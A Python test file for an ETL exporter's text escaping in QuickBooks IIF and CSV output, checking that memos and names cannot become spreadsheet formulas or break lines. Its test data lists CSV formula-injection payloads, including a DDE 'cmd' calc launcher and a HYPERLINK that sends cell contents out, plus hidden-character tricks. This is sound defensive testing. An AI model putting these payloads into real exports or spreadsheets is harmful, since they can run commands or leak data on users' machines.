"""Texts of people: what is cleaned, what is refused, and that no text can become a formula or part a line."""

from __future__ import annotations

import unicodedata

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from etl.errors import TargetError
from etl.targets import iif_journal, iif_time, qbo_csv
from etl.targets.text import CSV, IIF, cleaned, escape, is_formula, name_problems, unescape
from tests.targets.examples import HEADER, journal, settings, time_activity
from tests.targets.judges import judged
from tests.targets.readers import FORMULA_STARTS, read_iif

HOSTILE = st.text(st.one_of(
    st.sampled_from(list("=+-@|~ \t\r\n\0\"';,:%0A[]<>${}")),
    st.sampled_from(["\ufeff", "\u200b", "\u202e", "\u00a0", "\u2028", "\uff1d", "\uff0d", "\x85"]),
    st.sampled_from(["e", "\u0301", "é", "Ł", "😀"]),
    st.characters(exclude_categories=["Cs"])), max_size=40)

CLEANED = [   # profile, text, as written, why
    (IIF, "Form states", "Form states", "nothing to clean"),
    (IIF, 'Review fixes, "safe stop" flow', "Review fixes, 'safe stop' flow", "as the golden sample writes it"),
    (CSV, 'Review fixes, "safe stop" flow', 'Review fixes, "safe stop" flow', "CSV quotes quotes"),
    (IIF, "first; second", "first, second", "a semicolon makes QuickBooks Desktop stop reading"),
    (CSV, "first; second", "first; second", "no harm in CSV"),
    (IIF, "one\ttwo\r\nthree", "one two three", "a tab would shift the columns"),
    (CSV, "one\ttwo\r\nthree", "one two three", "no line break inside a field of an import file"),
    (IIF, "Cafe\u0301", "Café", "composed form, one byte in the code page"),
    (IIF, "Łódź", "?ód?", "the code page has neither Ł nor ź"),
    (CSV, "Łódź 😀", "Łódź 😀", "UTF-8 has them all"),
    (CSV, "a\u202eb\u200bc", "a?b?c", "hidden signs are made visible"),
    (IIF, " spaced ", "spaced", "outer spaces"),
    (IIF, "-5 min late", "~ -5 min late", "an honest minus, and a formula to a spreadsheet"),
    (IIF, "~ mine", "~ ~ mine", "begins with the lead itself"),
    (IIF, "\uff1d1+1", "?1+1", "the full-width sign is not in the code page"),
    (IIF, "\0\0", "", "nothing but control signs"),
]
B34_B35 = [   # reliability reference, B34 and B35: every one gets the lead
    '=HYPERLINK("http://x/?"&A1,"ok")', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '"=1+1"', " =1", "\uff1d1+1",
    "%0A=1", "%0D=1", "%09=1", ";=1", ";@", "=cmd|' /C calc'!A0", "\u200b=1", "\ufeff=1", "'=1", "|calc", "\n", "\0",
]


@pytest.mark.parametrize(("profile", "text", "written", "why"), CLEANED)
def test_free_text(profile, text, written, why):
    """B37: what a memo may hold, cleaned for its target, with the reasons."""
    after, reasons = cleaned(text, profile)
    assert after == written, why
    assert bool(reasons) == (after != text), "a changed text has a reason, an unchanged one has none"


@pytest.mark.parametrize("text", B34_B35)
def test_formulas_get_the_lead(text):
    assert escape(text, CSV.lead) == f"~ {text}"
    assert unescape(escape(text, CSV.lead), CSV.lead) == text


@given(HOSTILE, st.sampled_from(["~ ", "'", "_"]))
def test_the_lead_is_reversible_and_leaves_no_dangerous_start(text, lead):
    written = escape(text, lead)
    assert unescape(written, lead) == text
    assert not written or written[0] not in FORMULA_STARTS
    assert not is_formula(written) or lead == "'", "an apostrophe itself stands before a formula"


@given(HOSTILE, st.sampled_from([IIF, CSV]))
def test_cleaning_twice_changes_only_the_lead(text, profile):
    once, _ = cleaned(text, profile)
    assert unescape(cleaned(once, profile)[0], profile.lead) in (once, once.removeprefix(profile.lead))


@given(st.lists(HOSTILE, min_size=1, max_size=3))
def test_hostile_notes_survive_the_reader(notes):
    table = pa.concat_tables([time_activity(note=note) for note in notes])
    [file] = iif_time.render(table, HEADER, settings())
    read = [record["NOTE"] for record in read_iif(file.content) if record["RECORD"] == "TIMEACT"]
    assert read == [f"{cleaned(note, IIF)[0]} [AP-0001]".lstrip(" ") for note in notes]
    changed = {change["before"]: change["after"]
               for change in iif_time.changed_texts(table, HEADER, settings()).to_pylist()}
    assert changed == {note: cleaned(note, IIF)[0] for note in notes if cleaned(note, IIF)[0] != note}


@given(st.lists(HOSTILE, min_size=1, max_size=3), st.sampled_from([iif_journal, qbo_csv]))
def test_hostile_memos_survive_the_reader(memos, target):
    table = journal(*({"memo": memo} for memo in memos))
    for file in [*target.render(table, HEADER, settings()), *target.correct(table, HEADER, settings())]:
        records = [record for record in judged(file) if record.get("RECORD") != "ENDTRNS"]
        read = [record.get("MEMO", record.get("Description")) for record in records]
        if file.role == "import":
            profile = IIF if target is iif_journal else CSV
            assert read == [*(cleaned(memo, profile)[0] for memo in memos), "Gross wages"]


IIF_COLUMNS = {"customer_job": "JOB", "employee_name": "EMP", "service_item": "ITEM", "pay_item": "PITEM",
               "class": "PROJ"}


@given(HOSTILE, st.sampled_from(sorted(IIF_COLUMNS)))
def test_a_hostile_name_is_refused_or_written_as_it_is(name, column):
    table = time_activity(**{column: name}, is_billable=False)
    try:
        [file] = iif_time.render(table, HEADER, settings(transfer=False))
    except TargetError as error:
        written = error.code
    else:
        written = read_iif(file.content)[1][IIF_COLUMNS[column]]
    assert written in ("TARGET_NAME", "TARGET_FIELD_EMPTY", unicodedata.normalize("NFC", name))


NAMES = [   # profile, name, found, why
    (IIF, "Tomás Béal", "", "one byte per letter in the code page"),
    (IIF, "Nair, Priya", "", "the separator is the tab"),
    (IIF, "Łukasz", "Ł (U+0141)", "the code page lacks it"),
    (CSV, "Łukasz", "", "UTF-8"),
    (IIF, "a;b", "holds ;", "stops the reading"),
    (CSV, "a;b", "", "no harm in CSV"),
    (IIF, 'The "Hub"', 'holds "', "a name is never changed"),
    (CSV, "=A1", "begins like a formula", "B36: refused, never escaped"),
    (CSV, "-Misc", "begins like a formula", "B36"),
    (CSV, "Acme ", "begins or ends with a space", "B33"),
    (CSV, "Ac\u00a0me", "(U+00A0), which nobody sees", "B33: non-breaking space"),
    (CSV, "Ac\u202eme", "(U+202E), which nobody sees", "B32: right-to-left override"),
    (CSV, "Ac\tme", "(U+0009), which nobody sees", "shifts columns"),
]


@pytest.mark.parametrize(("profile", "name", "found", "why"), NAMES)
def test_names(profile, name, found, why):
    problems = "; ".join(name_problems(name, profile))
    assert (found in problems) if found else (problems == ""), why
